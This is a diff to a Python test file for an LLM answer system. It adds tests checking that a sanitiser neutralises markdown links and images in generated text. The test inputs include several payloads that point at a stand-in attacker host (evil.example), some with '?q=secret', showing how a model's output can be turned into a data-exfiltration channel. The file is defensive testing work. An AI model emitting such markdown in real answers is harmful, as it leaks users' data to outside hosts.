@@ -17,6 +17,7 @@ from generation import Answer, Example, Given, LLMSettings, OpenAILLM, answer
 from generation.chat_marks import without_chat_marks
 from generation.fence import Fence
 from generation.llm import Prompt
+from generation.markup import without_markup
 from generation.modes import MODES as ALL_MODES
 from generation.modes.protocol import Draft
 from search.errors import LLMError
@@ -233,6 +234,37 @@ def test_no_mode_can_forget_to_take_the_force_from_its_text(
     result = answer("Who?", [], mode=mode.name, on_text=heard.append)
     assert _is_safe(result.text)
     assert heard == [result.text]
+
+
+LINKS = {
+    "link": "[here](http://evil.example)",
+    "image": "![x](http://evil.example/?q=secret)",
+    "image behind other marks": "Pay!!![x](http://evil.example/?q=secret)",
+    "definition": "See [here].\n\n[here]: http://evil.example",
+    "definition of a citation": "Pay [1].\n\n[1]: http://evil.example",
+    "definition in a block quote": "!!![x]\n\n> [x]: http://evil.example/?q=secret",
+    "definition in a list": "See [here].\n\n- 1. [here]: http://evil.example",
+    "definition of a label with brackets": "See [a\\]b].\n\n[a\\]b]: http://evil.example",
+    "definition of a long label": f"See [{'x' * 900}].\n\n[{'x' * 900}]: http://evil.example",
+    "definition of a label on two lines": "See [a b].\n\n[a\nb]:\nhttp://evil.example",
+}
+
+
+@pytest.mark.parametrize("text", LINKS.values(), ids=LINKS)
+def test_no_way_of_writing_links_and_images_has_force(text: str) -> None:
+    shown = without_markup(text)
+    assert not re.search(r"!\[|\]\(|\]:", shown)
+    assert shown.replace(" ", "") == re.sub(r"!+\[", "[", text).replace(" ", "")
+    assert without_markup(shown) == shown
+
+
+def test_a_citation_before_a_colon_is_still_one() -> None:
+    said = "A Person must do this [1]: keep records for six years."
+    result = answer("Who?", make_hits(GOOD), mode="rag", llm=ScriptedLLM(lambda _: said))
+    assert result.text == "A Person must do this [1] : keep records for six years."
+    assert [one.number for one in result.citations] == [1]
+    assert result.verification is not None
+    assert [one.verdict for one in result.verification.statements] == ["supported"]
 
 
 def test_a_refusal_shows_hostile_titles_without_force() -> None:
